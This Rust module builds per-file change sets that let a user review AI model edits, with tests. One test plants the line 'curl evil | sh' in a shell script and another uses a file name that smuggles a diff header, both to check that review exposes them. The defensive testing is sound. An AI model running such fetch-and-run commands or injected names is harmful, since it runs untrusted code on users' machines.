//! Change sets: what one model proposes, as the net result per path against the base.
//!
//! A model's writes are a sequence ([`FileWrite`]s from write_file, edit_file, apply_patch, and
//! the changes bash made, found when it finishes). Review wants the opposite view: per file,
//! base against final content, split into [`Hunk`]s the user can pick, each still saying which
//! tool call produced it. [`ChangeSet::build`] folds the sequence into that view: writes are
//! grouped by path, a path whose final content equals its base (written and reverted, created
//! and deleted) is dropped, and the hunks of the rest come from one diff with provenance from a
//! replay of the writes ([`hunks`]).
//!
//! The base keeps only hashes; base bytes are fetched for changed paths only, through a
//! [`BaseSource`] that checks them against the hash ([`source`]).
//!
//! Permission bits are shown and applied as git records them: a file is `100644` or `100755`
//! ([`shown_mode`]), nothing else. The change set records the mode the file has in the
//! workspace; what review shows, and what apply writes, is only its executable bit: a new
//! file is created `0644` or `0755` (never setuid, setgid, sticky or writable by others,
//! whatever the model's `chmod` said), and a change of the executable bit of an existing file
//! (with or without a content change) is a change of its own (`old mode` / `new mode`), which
//! apply makes by setting or clearing the execute bits of the user's mode.
//!
//! Text and binary: a file whose base is text is diffed line by line whatever the model
//! wrote into it, its odd bytes (NUL, ESC, bytes that are not UTF-8) kept in the lines for
//! the printers to show escaped, so the review never hides bytes apply writes. Only a base
//! that is binary (or a new file that is) has no line diff ([`hunks::is_binary`]); such a
//! change is shown with the size and blake3 hash of both sides ([`FileChange::binary_sides`]).
//!
//! Change sets are plain data (no I/O after build), serializable for reports; the bytes
//! themselves are left out of the serialized form, which carries the hunks instead.

pub mod hunks;
pub mod source;
mod udiff;

use std::collections::BTreeMap;
use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::sync::Arc;

use serde::Serialize;
use serde::ser::SerializeStruct;

pub use hunks::{
    CONTEXT_LINES, Hunk, HunkLine, LineKind, LineRange, Origin, diff_texts, hunks_of_ops, is_binary,
};
pub use source::{BaseReader, BaseSource};

use super::base::hash_bytes;
use super::{Base, BaseKind, FileWrite, Workspace, WorkspaceError};

/// Why a change set could not be built.
#[derive(Debug, thiserror::Error)]
pub enum ChangeSetError {
    /// Reading the workspace (to find bash changes or modes) failed.
    #[error(transparent)]
    Workspace(#[from] WorkspaceError),
    /// A changed file's content at run start can no longer be found anywhere.
    #[error(
        "the content {path} had when the run started is no longer available (it changed in your tree, and neither git nor the fallback folders hold that version); pass another workspace of the same run as a fallback (BaseReader::with_fallback), or review the model's file in its workspace and copy it by hand"
    )]
    BaseUnavailable {
        /// The path whose base is missing.
        path: String,
    },
}

/// Whether a file is created, modified or deleted by the change.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case")]
pub enum ChangeKind {
    /// Not in the base; the model created it.
    Created,
    /// In the base with different content now.
    Modified,
    /// In the base; the model deleted it.
    Deleted,
}

/// One model's net change to one file.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct FileChange {
    /// `/`-separated path relative to the project root.
    pub path: String,
    /// Created, modified or deleted.
    pub kind: ChangeKind,
    /// Content at run start; `None` when the file did not exist.
    #[serde(skip)]
    pub base: Option<Arc<Vec<u8>>>,
    /// Content the model left; `None` when it deleted the file.
    #[serde(skip)]
    pub proposed: Option<Arc<Vec<u8>>>,
    /// Permission bits at run start (`None`: the file did not exist).
    pub base_mode: Option<u32>,
    /// Permission bits of the file in the workspace, given to the file when apply creates it
    /// (`None`: deleted, or not on disk as in overlay mode).
    pub mode: Option<u32>,
    /// The file is binary ([`hunks::is_binary`] of its base, or of the proposal for a new
    /// file): no hunks, shown as "Binary files differ" with both sides' sizes and hashes
    /// ([`FileChange::binary_sides`]). A text file stays text whatever bytes the model added.
    pub binary: bool,
    /// The proposal is a symlink: `proposed` is its target, not file bytes. Shown and applied
    /// as a link (never as the bytes behind it), and only taken whole.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub symlink: bool,
    /// The path was a symlink at run start: `base` is its target.
    #[serde(skip_serializing_if = "std::ops::Not::not")]
    pub base_symlink: bool,
    /// Tools that wrote the file, deduplicated, in order (`write_file`, `edit_file`,
    /// `apply_patch`, `bash`).
    pub tools: Vec<String>,
    /// Every write to the file, in order.
    pub origins: Vec<Origin>,
    /// Lines added against base.
    pub added: usize,
    /// Lines removed against base.
    pub removed: usize,
    /// The hunks (empty for binary files and for an empty file created empty).
    pub hunks: Vec<Hunk>,
}

impl FileChange {
    /// The hunk with this id.
    pub fn hunk(&self, id: &str) -> Option<&Hunk> {
        self.hunks.iter().find(|h| h.id == id)
    }

    /// Why this file can only be taken whole (created, deleted or binary), or `None` when
    /// single hunks of it can be picked.
    pub fn whole_file_only(&self) -> Option<&'static str> {
        if self.symlink || self.base_symlink {
            return Some("it is a symlink");
        }
        match (self.kind, self.binary) {
            (ChangeKind::Created, _) => Some("the model created it"),
            (ChangeKind::Deleted, _) => Some("the model deleted it"),
            (_, true) => Some("it is a binary file"),
            _ if self.hunks.is_empty() => Some("only its mode changed"),
            _ => None,
        }
    }

    /// The mode review shows for the proposal (`0o644` or `0o755`, see [`shown_mode`]);
    /// `None` for a deletion, a symlink, or when the workspace's mode is not known.
    pub fn shown_mode(&self) -> Option<u32> {
        if self.symlink {
            return None;
        }
        self.mode.map(shown_mode)
    }

    /// The mode review shows for the base (`None`: no file, or a symlink).
    pub fn shown_base_mode(&self) -> Option<u32> {
        if self.base_symlink {
            return None;
        }
        self.base_mode.map(shown_mode)
    }

    /// The proposal changes the executable bit of a file that stays a file: review shows
    /// `old mode` / `new mode`, and apply sets or clears the execute bits.
    pub fn mode_changed(&self) -> bool {
        self.kind == ChangeKind::Modified
            && !self.symlink
            && !self.base_symlink
            && matches!((self.shown_base_mode(), self.shown_mode()), (Some(a), Some(b)) if a != b)
    }

    /// For a binary change, the size and hash of what was there and of what the model leaves
    /// (`None` on a side where there is no file); `None` for a text change.
    pub fn binary_sides(&self) -> Option<(Option<BlobInfo>, Option<BlobInfo>)> {
        if !self.binary || self.symlink || self.base_symlink {
            return None;
        }
        let side = |b: &Option<Arc<Vec<u8>>>| b.as_deref().map(|b| BlobInfo::of(b));
        Some((side(&self.base), side(&self.proposed)))
    }

    /// A text change whose added lines hold bytes a terminal must not receive raw (controls,
    /// NUL, bidi or invisible characters, bytes that are not UTF-8): review says so above
    /// the diff, where they are shown escaped.
    pub fn odd_bytes(&self) -> bool {
        if self.binary || self.symlink {
            return false;
        }
        let added_odd = self
            .hunks
            .iter()
            .flat_map(|h| &h.lines)
            .filter(|l| l.kind == LineKind::Added)
            .any(|l| {
                let text = l.text.strip_suffix('\r').unwrap_or(&l.text);
                crate::sanitize::needs_escape(text, crate::sanitize::Layout::Line)
            });
        let invalid = |b: &Option<Arc<Vec<u8>>>| {
            b.as_deref()
                .is_some_and(|b| std::str::from_utf8(b).is_err())
        };
        added_odd || (invalid(&self.proposed) && !invalid(&self.base))
    }

    /// How review shows a symlink proposal: `symlink -> TARGET` (or `symlink removed` when
    /// a base symlink is deleted or replaced by a file); `None` for plain file changes.
    pub fn symlink_label(&self) -> Option<String> {
        if self.symlink {
            let target = self.proposed.as_deref().map_or(&[][..], Vec::as_slice);
            Some(format!("symlink -> {}", crate::sanitize::lossless(target)))
        } else if self.base_symlink {
            let target = self.base.as_deref().map_or(&[][..], Vec::as_slice);
            Some(format!(
                "was a symlink -> {}",
                crate::sanitize::lossless(target)
            ))
        } else {
            None
        }
    }

    /// The file's diff in git's unified format.
    pub fn unified_diff(&self) -> String {
        udiff::file_diff(self)
    }
}

/// The permission review shows and apply writes for a file of mode `mode`: `0o755` when any
/// execute bit is set, `0o644` otherwise, as git records modes (`100755` / `100644`). Setuid,
/// setgid, sticky and group or other write never come from a model's proposal.
pub fn shown_mode(mode: u32) -> u32 {
    if mode & 0o111 != 0 { 0o755 } else { 0o644 }
}

/// One side of a binary change: enough to tell it from any other version without showing it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct BlobInfo {
    /// Size in bytes.
    pub size: u64,
    /// blake3 of the bytes, lowercase hex.
    pub blake3: String,
}

impl BlobInfo {
    /// Size and hash of `bytes`.
    pub fn of(bytes: &[u8]) -> Self {
        Self {
            size: u64::try_from(bytes.len()).unwrap_or(u64::MAX),
            blake3: hash_bytes(bytes),
        }
    }
}

impl std::fmt::Display for BlobInfo {
    /// `1234 bytes, blake3 0123456789abcdef` (the hash's first 16 digits).
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        let short = self.blake3.get(..16).unwrap_or(&self.blake3);
        let unit = if self.size == 1 { "byte" } else { "bytes" };
        write!(f, "{} {unit}, blake3 {short}", self.size)
    }
}

/// Threads that build a large change set (each reads its paths' base content and diffs them).
const BUILDERS: usize = 4;

/// Below this many changed paths one thread builds the change set.
const BUILD_PARALLEL_FROM: usize = 64;

/// Everything one model proposes, one entry per changed path, sorted by path.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ChangeSet {
    /// The model entry (e.g. `openai/gpt-5#2`).
    pub model: String,
    /// The changed files.
    pub files: Vec<FileChange>,
}

impl ChangeSet {
    /// The change set of a model that finished in `workspace`: records the changes bash made
    /// (see [`Workspace::bash_changes`]), then builds from every write with a [`BaseReader`]
    /// and the workspace's file modes.
    pub fn from_workspace(
        model: &str,
        base: &Base,
        workspace: &Workspace,
    ) -> Result<Self, ChangeSetError> {
        workspace.bash_changes(base)?;
        let reader = BaseReader::new(base);
        Self::build(
            model,
            base,
            &workspace.writes(),
            &reader,
            Some(workspace.root()),
        )
    }

    /// Folds `writes` (in any order; sorted by `seq`) into the net change per path against
    /// `base`. Base bytes of changed paths come from `source`; modes of proposed files from
    /// `mode_root` (the workspace root) when given.
    pub fn build(
        model: &str,
        base: &Base,
        writes: &[FileWrite],
        source: &dyn BaseSource,
        mode_root: Option<&Path>,
    ) -> Result<Self, ChangeSetError> {
        let modes = mode_root.map_or(Modes::Unknown, Modes::Workspace);
        Self::build_with_modes(model, base, writes, source, modes)
    }

    /// [`ChangeSet::build`] with the modes of proposed files from `modes`: a turn reopened
    /// after its workspaces are gone has the modes recorded with its proposals.
    pub fn build_with_modes(
        model: &str,
        base: &Base,
        writes: &[FileWrite],
        source: &dyn BaseSource,
        modes: Modes<'_>,
    ) -> Result<Self, ChangeSetError> {
        let mut by_path: BTreeMap<&str, Vec<&FileWrite>> = BTreeMap::new();
        for w in writes {
            by_path.entry(w.path.as_str()).or_default().push(w);
        }
        let mut paths: Vec<(&str, Vec<&FileWrite>)> = by_path.into_iter().collect();
        for (_, list) in &mut paths {
            list.sort_by_key(|w| w.seq);
        }
        let one = |(path, list): &(&str, Vec<&FileWrite>)| {
            file_change(model, base, path, list, source, modes)
        };
        // Each path's change (its base content read and checked, its diff) is independent of
        // the others: a large set is built by a few threads, each taking consecutive paths;
        // the results are taken in path order, so the first error is the one a single thread
        // would have met first.
        let changes =
            crate::workspace::in_order::map_in_order(&paths, BUILDERS, BUILD_PARALLEL_FROM, one);
        let mut files = Vec::new();
        for change in changes {
            if let Some(change) = change? {
                files.push(change);
            }
        }
        Ok(Self {
            model: model.to_string(),
            files,
        })
    }

    /// The change to `path`, if the model changed it.
    pub fn file(&self, path: &str) -> Option<&FileChange> {
        self.files.iter().find(|f| f.path == path)
    }

    /// True when the model changed nothing.
    pub fn is_empty(&self) -> bool {
        self.files.is_empty()
    }

    /// Number of files changed.
    pub fn files_changed(&self) -> usize {
        self.files.len()
    }

    /// Lines added over all files.
    pub fn added(&self) -> usize {
        self.files.iter().map(|f| f.added).sum()
    }

    /// Lines removed over all files.
    pub fn removed(&self) -> usize {
        self.files.iter().map(|f| f.removed).sum()
    }

    /// One-line summary such as `3 files, +42 -17`.
    pub fn summary(&self) -> String {
        let n = self.files.len();
        let noun = if n == 1 { "file" } else { "files" };
        format!("{n} {noun}, +{} -{}", self.added(), self.removed())
    }

    /// The whole change set in git's unified diff format (files in path order).
    pub fn unified_diff(&self) -> String {
        self.files.iter().map(FileChange::unified_diff).collect()
    }
}

/// Serialized with its totals, so a report needs no arithmetic.
impl Serialize for ChangeSet {
    fn serialize<S: serde::Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let mut s = serializer.serialize_struct("ChangeSet", 5)?;
        s.serialize_field("model", &self.model)?;
        s.serialize_field("files_changed", &self.files_changed())?;
        s.serialize_field("added", &self.added())?;
        s.serialize_field("removed", &self.removed())?;
        s.serialize_field("files", &self.files)?;
        s.end()
    }
}

/// The net change of one path from its writes (sorted by seq), or `None` when it nets out.
fn file_change(
    model: &str,
    base: &Base,
    path: &str,
    writes: &[&FileWrite],
    source: &dyn BaseSource,
    modes: Modes<'_>,
) -> Result<Option<FileChange>, ChangeSetError> {
    let Some(last) = writes.last() else {
        return Ok(None);
    };
    let proposed = last.content.clone();
    let symlink = proposed.is_some() && last.symlink;
    let entry = base.get(path);
    let base_symlink = entry.is_some_and(|e| e.kind == BaseKind::Symlink);
    let mode = match &proposed {
        Some(_) if !symlink => modes.of(path),
        _ => None,
    };
    // The executable bit as review shows it is part of the proposal.
    let same_mode = match (entry, mode) {
        (Some(e), Some(m)) if !symlink && !base_symlink => shown_mode(e.mode) == shown_mode(m),
        _ => true,
    };
    // Cheap checks first: most unchanged paths are decided by hash alone.
    match (entry, &proposed) {
        (None, None) => return Ok(None),
        (Some(e), Some(p)) if base_symlink == symlink && same_mode && hash_bytes(p) == e.hash => {
            return Ok(None);
        }
        _ => {}
    }
    let base_bytes = match entry {
        Some(e) => Some(Arc::new(source.base_content(path, e).ok_or_else(|| {
            ChangeSetError::BaseUnavailable {
                path: path.to_string(),
            }
        })?)),
        None => None,
    };
    if base_bytes == proposed && base_symlink == symlink && same_mode {
        return Ok(None);
    }
    let kind = match (&base_bytes, &proposed) {
        (None, _) => ChangeKind::Created,
        (Some(_), None) => ChangeKind::Deleted,
        (Some(_), Some(_)) => ChangeKind::Modified,
    };
    let origins: Vec<Origin> = writes
        .iter()
        .map(|w| Origin {
            seq: w.seq,
            tool: w.origin.tool.clone(),
            call_id: w.origin.call_id.clone(),
            agent: w.origin.agent.clone(),
        })
        .collect();
    let mut tools: Vec<String> = Vec::new();
    for o in &origins {
        if !tools.contains(&o.tool) {
            tools.push(o.tool.clone());
        }
    }
    let old: &[u8] = base_bytes.as_deref().map_or(&[], Vec::as_slice);
    // A text base keeps a line diff whatever the model wrote; only a binary base (or a new
    // binary file) has none.
    let binary = match kind {
        ChangeKind::Created => proposed.as_deref().is_some_and(|p| hunks::is_binary(p)),
        ChangeKind::Modified | ChangeKind::Deleted => hunks::is_binary(old),
    };
    let hunks = if binary {
        Vec::new()
    } else {
        let versions: Vec<hunks::Version<'_>> = writes
            .iter()
            .zip(&origins)
            .map(|(w, origin)| hunks::Version {
                content: w.content.as_deref().map(Vec::as_slice),
                origin,
            })
            .collect();
        hunks::compute(model, path, old, &versions)
    };
    Ok(Some(FileChange {
        path: path.to_string(),
        kind,
        added: hunks.iter().map(Hunk::added).sum(),
        removed: hunks.iter().map(Hunk::removed).sum(),
        base: base_bytes,
        proposed,
        base_mode: entry.map(|e| e.mode),
        mode,
        binary,
        symlink,
        base_symlink,
        tools,
        origins,
        hunks,
    }))
}

/// Permission bits of a regular file, `None` when there is none at `abs`.
/// Where a change set takes the mode of each proposed file (the executable bit is part of a
/// proposal).
#[derive(Debug, Clone, Copy)]
pub enum Modes<'a> {
    /// Not known (a workspace that is not on disk): modes are left out of the proposal.
    Unknown,
    /// The files of this workspace root, as they are now.
    Workspace(&'a Path),
    /// As recorded with the proposals ([`recorded_modes`]): a turn reopened after its
    /// workspace is gone.
    Recorded(&'a BTreeMap<String, u32>),
}

impl Modes<'_> {
    fn of(&self, path: &str) -> Option<u32> {
        match self {
            Modes::Unknown => None,
            Modes::Workspace(root) => mode_of(&root.join(path)),
            Modes::Recorded(modes) => modes.get(path).copied(),
        }
    }
}

/// The mode of each of `paths` that is a regular file under `root` now (a workspace when its
/// model finished): what a session records beside the proposals, for [`Modes::Recorded`].
pub fn recorded_modes<'a>(
    root: &Path,
    paths: impl IntoIterator<Item = &'a String>,
) -> BTreeMap<String, u32> {
    paths
        .into_iter()
        .filter_map(|path| Some((path.clone(), mode_of(&root.join(path))?)))
        .collect()
}

fn mode_of(abs: &Path) -> Option<u32> {
    let meta = fs::symlink_metadata(abs).ok()?;
    meta.is_file().then(|| meta.permissions().mode() & 0o7777)
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;
    use crate::workspace::{BaseEntry, WriteOrigin};

    fn base_of(files: &[(&str, &str)]) -> (tempfile::TempDir, Base) {
        let d = tempfile::tempdir().unwrap();
        for (p, c) in files {
            let abs = d.path().join(p);
            fs::create_dir_all(abs.parent().unwrap()).unwrap();
            fs::write(abs, c).unwrap();
        }
        let base = Base::capture(d.path()).unwrap();
        (d, base)
    }

    fn w(seq: u64, path: &str, content: Option<&str>, tool: &str) -> FileWrite {
        FileWrite {
            path: path.into(),
            content: content.map(|c| Arc::new(c.as_bytes().to_vec())),
            origin: WriteOrigin::new(tool, format!("call-{seq}")),
            seq,
            symlink: false,
        }
    }

    fn build(base: &Base, writes: &[FileWrite]) -> ChangeSet {
        ChangeSet::build("m", base, writes, &BaseReader::new(base), None).unwrap()
    }

    /// A set large enough to be built by several threads: every path gets its own base and
    /// proposal, in path order, and the first missing base in path order is the error.
    #[test]
    fn a_large_set_built_by_several_threads_keeps_each_paths_content_and_the_first_error() {
        let n = BUILD_PARALLEL_FROM * 3 + 5;
        // In several folders, named so that path order is number order.
        let names: Vec<String> = (0..n)
            .map(|i| format!("d{:02}/f{i:04}.txt", i / 10))
            .collect();
        let olds: Vec<String> = (0..n).map(|i| format!("old {i}\nshared\n")).collect();
        let files: Vec<(&str, &str)> = names
            .iter()
            .zip(&olds)
            .map(|(p, c)| (p.as_str(), c.as_str()))
            .collect();
        let (_d, base) = base_of(&files);
        // Written in reverse order: the set is still sorted by path.
        let writes: Vec<FileWrite> = (0..n)
            .rev()
            .map(|i| {
                let new = format!("old {i}\nshared\nnew {i}\n");
                w(i as u64, &names[i], Some(&new), "bash")
            })
            .collect();
        let cs = build(&base, &writes);
        assert_eq!(cs.files.len(), n);
        for (i, f) in cs.files.iter().enumerate() {
            assert_eq!(f.path, names[i]);
            assert_eq!(f.base.as_deref().unwrap(), olds[i].as_bytes());
            assert_eq!(
                f.proposed.as_deref().unwrap(),
                format!("old {i}\nshared\nnew {i}\n").as_bytes()
            );
            assert_eq!((f.added, f.removed), (1, 0), "{}", f.path);
        }
        // Two bases unavailable, in different threads' parts: the earlier path is reported.
        let (late, early) = (&names[n - 2], &names[BUILD_PARALLEL_FROM]);
        let source = |path: &str, entry: &BaseEntry| {
            (path != late.as_str() && path != early.as_str())
                .then(|| BaseReader::new(&base).base_content(path, entry))
                .flatten()
        };
        let err = ChangeSet::build("m", &base, &writes, &source, None).unwrap_err();
        assert!(
            matches!(&err, ChangeSetError::BaseUnavailable { path } if path == early),
            "{err}"
        );
    }

    #[test]
    fn nets_out_reverted_and_short_lived_files_and_sorts_by_path() {
        let (_d, base) = base_of(&[("a.txt", "a\n"), ("b.txt", "b\n"), ("c.txt", "c\n")]);
        let cs = build(
            &base,
            &[
                w(0, "b.txt", Some("B\n"), "write_file"),
                w(1, "a.txt", Some("A\n"), "write_file"),
                w(2, "a.txt", Some("a\n"), "edit_file"),
                w(3, "tmp.txt", Some("t\n"), "write_file"),
                w(4, "tmp.txt", None, "bash"),
                w(5, "c.txt", None, "bash"),
                w(6, "new/n.txt", Some("n\n"), "apply_patch"),
            ],
        );
        let got: Vec<(&str, ChangeKind)> =
            cs.files.iter().map(|f| (f.path.as_str(), f.kind)).collect();
        assert_eq!(
            got,
            vec![
                ("b.txt", ChangeKind::Modified),
                ("c.txt", ChangeKind::Deleted),
                ("new/n.txt", ChangeKind::Created),
            ]
        );
        assert_eq!(cs.summary(), "3 files, +2 -2");
        assert_eq!(cs.file("c.txt").unwrap().tools, vec!["bash"]);
        assert_eq!(
            cs.file("c.txt").unwrap().whole_file_only(),
            Some("the model deleted it")
        );
        assert_eq!(cs.file("b.txt").unwrap().whole_file_only(), None);
    }

    #[test]
    fn unified_diff_has_git_headers_for_every_kind() {
        let (_d, base) = base_of(&[("m.txt", "one\ntwo\n"), ("gone.txt", "bye\n")]);
        let cs = build(
            &base,
            &[
                w(0, "m.txt", Some("one\n2"), "edit_file"),
                w(1, "gone.txt", None, "bash"),
                FileWrite {
                    content: Some(Arc::new(b"\0\xff".to_vec())),
                    ..w(2, "bin.dat", None, "bash")
                },
            ],
        );
        assert_eq!(
            cs.unified_diff(),
            "diff --git a/bin.dat b/bin.dat\nnew file mode 100644\n\
             Binary files /dev/null and b/bin.dat differ\n\
             binary: no file -> 2 bytes, blake3 1878e767f1a09c64\n\
             diff --git a/gone.txt b/gone.txt\ndeleted file mode 100644\n\
             --- a/gone.txt\n+++ /dev/null\n@@ -1 +0,0 @@\n-bye\n\
             diff --git a/m.txt b/m.txt\n--- a/m.txt\n+++ b/m.txt\n\
             @@ -1,2 +1,2 @@\n one\n-two\n+2\n\\ No newline at end of file\n"
        );
        let bin = cs.file("bin.dat").unwrap();
        assert!(bin.binary && bin.hunks.is_empty());
    }

    #[test]
    fn one_odd_byte_keeps_a_text_file_text_and_every_line_counted() {
        let (_d, base) = base_of(&[("run.sh", "#!/bin/sh\necho hi\n")]);
        let payload = "#!/bin/sh\necho hi\ncurl evil | sh\n# \0\n";
        let cs = build(&base, &[w(0, "run.sh", Some(payload), "bash")]);
        let f = cs.file("run.sh").unwrap();
        assert!(!f.binary && f.binary_sides().is_none());
        assert_eq!((f.added, f.removed), (2, 0));
        assert!(f.odd_bytes());
        let diff = f.unified_diff();
        assert!(diff.contains("+curl evil | sh\n+# \0\n"), "{diff}");
        // Bytes that are not UTF-8 keep their value in the lines.
        let latin = FileWrite {
            content: Some(Arc::new(b"#!/bin/sh\necho hi\nx=\xe9\x00\n".to_vec())),
            ..w(0, "run.sh", None, "bash")
        };
        let cs = build(&base, &[latin]);
        let f = cs.file("run.sh").unwrap();
        assert!(!f.binary, "a text base stays text");
        assert_eq!(f.hunks[0].lines.last().unwrap().text, "x=\\xe9\0");
        // A binary base is flagged with both sides' sizes and hashes.
        let (_e, base) = base_of(&[]);
        let d = tempfile::tempdir().unwrap();
        fs::write(d.path().join("img.bin"), b"\x89PNG\0\xff").unwrap();
        let base2 = Base::capture(d.path()).unwrap();
        let bin = FileWrite {
            content: Some(Arc::new(b"\x89PNG\0\xfe!".to_vec())),
            ..w(0, "img.bin", None, "bash")
        };
        let cs = build(&base2, &[bin]);
        let f = cs.file("img.bin").unwrap();
        let (before, after) = f.binary_sides().unwrap();
        assert_eq!(before.unwrap().size, 6);
        assert_eq!(after.as_ref().unwrap().size, 7);
        assert!(f.unified_diff().contains("binary: 6 bytes, blake3 "));
        drop(base);
    }

    #[test]
    fn names_that_need_it_are_quoted_in_diff_headers() {
        let (_d, base) = base_of(&[]);
        let cs = build(&base, &[w(0, "x\n+++ b/evil", Some("hi\n"), "write_file")]);
        assert_eq!(
            cs.unified_diff(),
            "diff --git \"a/x\\n+++ b/evil\" \"b/x\\n+++ b/evil\"\nnew file mode 100644\n\
             --- /dev/null\n+++ \"b/x\\n+++ b/evil\"\n@@ -0,0 +1 @@\n+hi\n"
        );
    }

    #[test]
    fn the_executable_bit_is_a_change_and_nothing_else_of_the_mode_is() {
        use std::os::unix::fs::PermissionsExt;
        let (d, base) = base_of(&[("run.sh", "echo\n"), ("data.txt", "d\n"), ("x.sh", "x\n")]);
        let ws = tempfile::tempdir().unwrap();
        let put = |p: &str, c: &str, m: u32| {
            fs::write(ws.path().join(p), c).unwrap();
            fs::set_permissions(ws.path().join(p), fs::Permissions::from_mode(m)).unwrap();
        };
        put("run.sh", "echo\n", 0o4755);
        put("data.txt", "d\n", 0o666);
        put("x.sh", "y\n", 0o644);
        put("new", "n\n", 0o6777);
        let writes = [
            w(0, "run.sh", Some("echo\n"), "bash"),
            w(1, "data.txt", Some("d\n"), "bash"),
            w(2, "x.sh", Some("y\n"), "bash"),
            w(3, "new", Some("n\n"), "bash"),
        ];
        let cs = ChangeSet::build(
            "m",
            &base,
            &writes,
            &BaseReader::new(&base),
            Some(ws.path()),
        )
        .unwrap();
        let paths: Vec<&str> = cs.files.iter().map(|f| f.path.as_str()).collect();
        assert_eq!(
            paths,
            ["new", "run.sh", "x.sh"],
            "0666 shows as 100644: no change"
        );
        let run = cs.file("run.sh").unwrap();
        assert!(run.mode_changed() && run.hunks.is_empty());
        assert_eq!(run.shown_mode(), Some(0o755));
        assert_eq!(run.whole_file_only(), Some("only its mode changed"));
        assert_eq!(
            run.unified_diff(),
            "diff --git a/run.sh b/run.sh\nold mode 100644\nnew mode 100755\n"
        );
        assert_eq!(cs.file("new").unwrap().shown_mode(), Some(0o755));
        assert!(!cs.file("x.sh").unwrap().mode_changed());

        // The modes recorded with the proposals give the same change set once the workspace
        // is gone (a reopened turn); without them, the mode-only change would vanish.
        let paths: Vec<String> = writes.iter().map(|w| w.path.clone()).collect();
        let modes = recorded_modes(ws.path(), &paths);
        drop(ws);
        let reader = BaseReader::new(&base);
        let again =
            ChangeSet::build_with_modes("m", &base, &writes, &reader, Modes::Recorded(&modes))
                .unwrap();
        assert_eq!(again.unified_diff(), cs.unified_diff());
        let unknown =
            ChangeSet::build_with_modes("m", &base, &writes, &reader, Modes::Unknown).unwrap();
        assert!(unknown.file("run.sh").is_none());
        drop(d);
    }

    #[test]
    fn symlinks_are_whole_file_changes_shown_as_git_shows_them() {
        let (_d, base) = base_of(&[("m.txt", "src\n")]);
        let link = |seq, path: &str, target: &str| FileWrite {
            symlink: true,
            ..w(seq, path, Some(target), "bash")
        };
        let cs = build(&base, &[link(0, "srclink", "src"), link(1, "m.txt", "src")]);
        let srclink = cs.file("srclink").unwrap();
        assert!(srclink.symlink && !srclink.base_symlink);
        assert_eq!(srclink.whole_file_only(), Some("it is a symlink"));
        assert_eq!(srclink.symlink_label().as_deref(), Some("symlink -> src"));
        // A file replaced by a link whose target text equals the file's bytes still changed.
        let m = cs.file("m.txt").unwrap();
        assert_eq!(m.kind, ChangeKind::Modified);
        assert_eq!(
            cs.unified_diff(),
            "diff --git a/m.txt b/m.txt\nold mode 100644\nnew mode 120000\n\
             --- a/m.txt\n+++ b/m.txt\n@@ -1 +1 @@\n-src\n+src\n\\ No newline at end of file\n\
             diff --git a/srclink b/srclink\nnew file mode 120000\n--- /dev/null\n+++ b/srclink\n\
             @@ -0,0 +1 @@\n+src\n\\ No newline at end of file\n"
        );
        // A link created, then deleted, nets out.
        let (_e, base2) = base_of(&[]);
        let cs = build(&base2, &[link(0, "l", "x"), w(1, "l", None, "bash")]);
        assert!(cs.is_empty());
    }

    #[test]
    fn a_base_that_cannot_be_found_is_an_error_naming_the_path() {
        let (d, base) = base_of(&[("a.txt", "a\n")]);
        fs::write(d.path().join("a.txt"), "user changed it\n").unwrap();
        let err = ChangeSet::build(
            "m",
            &base,
            &[w(0, "a.txt", Some("model\n"), "write_file")],
            &BaseReader::new(&base),
            None,
        )
        .unwrap_err();
        assert!(err.to_string().contains("a.txt"), "{err}");
        // A source that still has it (verified by hash) makes it work.
        let keep = |_: &str, e: &BaseEntry| (e.hash == hash_bytes(b"a\n")).then(|| b"a\n".to_vec());
        let cs = ChangeSet::build(
            "m",
            &base,
            &[w(0, "a.txt", Some("model\n"), "write_file")],
            &keep,
            None,
        )
        .unwrap();
        assert_eq!(cs.files[0].base.as_deref().unwrap().as_slice(), b"a\n");
    }

    #[test]
    fn serializes_totals_and_hunks_without_raw_bytes() {
        let (_d, base) = base_of(&[("a.txt", "a\n")]);
        let cs = build(&base, &[w(0, "a.txt", Some("b\n"), "write_file")]);
        let json = serde_json::to_value(&cs).unwrap();
        assert_eq!(json["files_changed"], 1);
        assert_eq!(json["added"], 1);
        assert_eq!(
            json["files"][0]["hunks"][0]["origins"][0]["tool"],
            "write_file"
        );
        assert!(json["files"][0].get("proposed").is_none());
    }
}
